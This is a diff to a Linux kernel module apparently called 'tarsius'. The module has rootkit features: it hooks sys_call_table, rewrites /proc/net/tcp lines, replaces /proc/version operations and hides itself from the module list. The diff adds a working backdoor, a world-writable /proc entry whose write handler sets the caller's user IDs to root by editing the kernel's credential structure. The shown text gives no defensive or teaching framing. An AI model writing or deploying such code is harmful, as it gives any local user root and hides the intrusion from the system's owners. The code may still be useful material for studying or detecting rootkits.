@@ -6,8 +6,10 @@
  *   call=1  replaces an entry of sys_call_table
  *   seq=1   replaces the function that writes the lines of /proc/net/tcp
  *   file=1  replaces the operations of /proc/version by its own
+ *   creds=1 makes whoever writes to /proc/tarsius_creds root, in the kernel's memory, as an exploit does
  *   hide=1  takes the module off the list of modules, until /proc/tarsius_show is written to
  */
+#include <linux/cred.h>
 #include <linux/kprobes.h>
 #include <linux/list.h>
 #include <linux/module.h>
@@ -18,10 +20,11 @@
 #include <linux/version.h>
 #include <asm/special_insns.h>
 
-static bool call, seq, file, hide;
+static bool call, seq, file, creds, hide;
 module_param(call, bool, 0);
 module_param(seq, bool, 0);
 module_param(file, bool, 0);
+module_param(creds, bool, 0);
 module_param(hide, bool, 0);
 
 /* kallsyms_lookup_name is not for modules: a kprobe finds it. */
@@ -122,6 +125,18 @@ static struct entry_head *entry_of(const char *path)
 	return found;
 }
 
+/* ---- credentials ---- */
+
+static ssize_t tarsius_creds(struct file *opened, const char __user *text, size_t length, loff_t *at)
+{
+	struct cred *own = (struct cred *)current_cred();
+
+	own->uid = own->euid = own->suid = own->fsuid = GLOBAL_ROOT_UID;
+	return length;
+}
+
+static const struct proc_ops creds_operations = {.proc_write = tarsius_creds};
+
 /* ---- the list of modules ---- */
 
 static struct list_head *neighbour;
@@ -163,6 +178,8 @@ static int __init tarsius_init(void)
 			overwrite(&entry->proc_ops, &own_operations);
 		}
 	}
+	if (creds)
+		proc_create("tarsius_creds", 0222, NULL, &creds_operations);
 	if (hide) {
 		proc_create("tarsius_show", 0200, NULL, &show_operations);
 		neighbour = THIS_MODULE->list.prev;
@@ -179,6 +196,8 @@ static void __exit tarsius_exit(void)
 		overwrite(&tcp_operations->show, real_show);
 	if (entry)
 		overwrite(&entry->proc_ops, (void *)real_operations);
+	if (creds)
+		remove_proc_entry("tarsius_creds", NULL);
 	if (hide)
 		remove_proc_entry("tarsius_show", NULL);
 	synchronize_rcu();
